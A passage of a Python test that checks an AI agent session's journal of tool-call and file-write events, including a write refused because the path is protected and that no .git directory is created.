        outcome = await session.submit("tidy the readme")
    finally:
        await session.close()
    assert outcome.reason == "final_answer" and outcome.final_answer == "Done."
    events = journal.read(session.session_id, session.branch)
    tool_events = [(e.kind, e.payload_dict().get("tool_name")) for e in events if e.kind.startswith("tool.call_")]
    assert tool_events == [
        ("tool.call_requested", "read_file"),
        ("tool.call_started", "read_file"),
        ("tool.call_completed", "read_file"),
        ("tool.call_requested", "edit_file"),
        ("tool.call_started", "edit_file"),
        ("tool.call_completed", "edit_file"),
        ("tool.call_requested", "write_file"),
        ("tool.call_started", "write_file"),
        ("tool.call_completed", "write_file"),
        ("tool.call_requested", "write_file"),
        ("tool.call_started", "write_file"),
        ("tool.call_completed", "write_file"),
    ]
    completed = [e.payload_dict() for e in events if e.kind == "tool.call_completed"]
    assert completed[0]["result"] == render(readme.rstrip("\n").split("\n"))
    assert completed[3]["is_error"] and "is protected" in completed[3]["result"]
    written = [e.payload_dict() for e in events if e.kind == "file.written"]
    assert [w["path"] for w in written] == ["README.md", "notes/todo.md"]
    blobs = BlobStore(journal.layout.blobs)
    assert (
        blobs.get(written[0]["blob_hash"]).decode() == "# demo\nAn edited one.\n" == (env.ws / "README.md").read_text()
    )
    assert blobs.get(written[0]["previous_blob"]).decode() == readme
    assert blobs.get(written[1]["blob_hash"]).decode() == "- ship it\n" and "previous_blob" not in written[1]
    calls = {e.payload_dict()["call_id"] for e in events if e.kind == "tool.call_completed"}
    assert {w["call_id"] for w in written} <= calls
    # Each file.written comes right after its call's completion.
    kinds = [e.kind for e in events]
    for w in written:
        i = next(
            i for i, e in enumerate(events) if e.kind == "file.written" and e.payload_dict()["call_id"] == w["call_id"]
        )
        assert kinds[i - 1] == "tool.call_completed" and events[i - 1].payload_dict()["call_id"] == w["call_id"]
    assert not (env.ws / ".git").exists()
